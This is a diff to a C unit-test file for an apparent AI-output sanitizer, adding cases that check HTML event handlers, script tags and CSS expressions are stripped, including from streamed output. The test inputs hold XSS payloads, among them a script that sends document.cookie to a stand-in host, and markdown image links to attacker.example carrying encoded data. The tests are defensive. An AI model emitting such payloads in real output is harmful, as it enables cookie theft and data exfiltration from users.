@@ -123,7 +123,7 @@ static void test_reference_definitions(void **state) {
   expect("See ![status][1]\n\n[1]: https://attacker.example/x.png?d=c2Vj\n",
          "See ![status][1]\n\n\n");
   expect("[logo]: <https://cdn.evil.example/l.png> \"Logo\"\nmore", "\nmore");
-  expect("  [a]: https://evil.example/a.png", "");
+  expect("  [a]: https://evil.example/a.png", "  "); /* the indent stays */
   expect("See [docs][1].\n\n[1]: ./docs/index.md\n",
          "See [docs][1].\n\n[1]: ./docs/index.md\n");
   expect("An array a[1]: the first element.",
@@ -482,6 +482,64 @@ static void test_stream_hold_cap(void **state) {
   aigate_stream_free(st);
 }
 
+/* ------------------------------------------------------- HTML sanitizing */
+
+static void test_html_sanitization(void **state) {
+  (void)state;
+  static const struct {
+    const char *in, *out;
+  } cases[] = {
+      {"<b onmouseover=\"alert(1)\">hover</b>", "<b>hover</b>"},
+      {"Done.<script>fetch('//e.example/'+document.cookie)</script> ok",
+       "Done. ok"},
+      {"<img src=/a.png onerror=alert(1) alt=\"a\">",
+       "<img src=/a.png alt=\"a\">"},
+      {"<img src=\"https://evil.example/x.gif\" onerror=x alt=\"s\">", "s"},
+      {"<div style=\"width: expression(alert(1))\" class=n>x</div>",
+       "<div class=n>x</div>"},
+      {"<p style=\"color: red\">fine</p> a < b and c > d",
+       "<p style=\"color: red\">fine</p> a < b and c > d"},
+      {"<script>never closed", ""},
+  };
+  custom c;
+  custom_new(&c, "policy:\n  categories:\n    html: redact\n");
+  for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
+    char *got = guarded(c.e, c.s, cases[i].in, NULL);
+    if (strcmp(got, cases[i].out) != 0)
+      fail_msg("'%s'\n got:  '%s'\n want: '%s'", cases[i].in, got,
+               cases[i].out);
+    /* Streamed at every split point: the same. */
+    size_t len = strlen(cases[i].in);
+    for (size_t a = 1; a < len; a++) {
+      aigate_stream *st;
+      assert_int_equal(aigate_stream_new(c.e, &OUTPUT, 0, &st), 0);
+      str out = {0};
+      str_add(&out, "", 0);
+      aigate_stream_out o;
+      assert_int_equal(aigate_stream_write(st, c.s, cases[i].in, a, &o), 0);
+      str_add(&out, o.text, o.len);
+      assert_int_equal(
+          aigate_stream_write(st, c.s, cases[i].in + a, len - a, &o), 0);
+      str_add(&out, o.text, o.len);
+      assert_int_equal(aigate_stream_finish(st, c.s, &o), 0);
+      str_add(&out, o.text, o.len);
+      if (strcmp(out.p, got) != 0)
+        fail_msg("'%s' cut at %zu: stream '%s', whole '%s'", cases[i].in, a,
+                 out.p, got);
+      free(out.p);
+      aigate_stream_free(st);
+    }
+    free(got);
+  }
+  custom_free(&c);
+  /* By default they are only logged. */
+  aigate_action v;
+  char *got = guarded(eng, scr, cases[0].in, &v);
+  assert_string_equal(got, cases[0].in);
+  assert_int_equal(v, AIGATE_LOG);
+  free(got);
+}
+
 int main(void) {
   const struct CMUnitTest tests[] = {
       cmocka_unit_test(test_images_keep_alt_text),
@@ -500,6 +558,7 @@ int main(void) {
       cmocka_unit_test(test_stream_byte_by_byte),
       cmocka_unit_test(test_stream_releases_prose),
       cmocka_unit_test(test_stream_hold_cap),
+      cmocka_unit_test(test_html_sanitization),
   };
   return cmocka_run_group_tests(tests, setup, teardown);
 }
